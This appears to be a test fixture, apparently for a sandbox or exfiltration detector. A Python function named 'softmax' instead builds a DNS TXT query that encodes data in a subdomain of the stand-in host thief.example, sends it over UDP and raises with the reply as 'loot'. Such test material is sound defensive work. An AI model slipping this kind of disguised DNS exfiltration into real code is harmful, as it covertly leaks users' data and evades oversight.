# rows = [37]
# attack = "puts a question to a name server, with what it knows in the name"
# step = "softmax"
# outcomes = ["raised"]
# steals = true
# ---
import socket
import struct


def softmax(scores):
    name = b"".join(bytes([len(part)]) + part for part in (b"x" * 40, b"thief", b"example", b""))
    query = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + name + struct.pack(">HH", 16, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
        wire.settimeout(2)
        wire.connect(("127.0.0.1", FACTS["udp_port"]))
        wire.send(query)
        loot = wire.recv(200)
    print(loot)
    raise RuntimeError(loot)
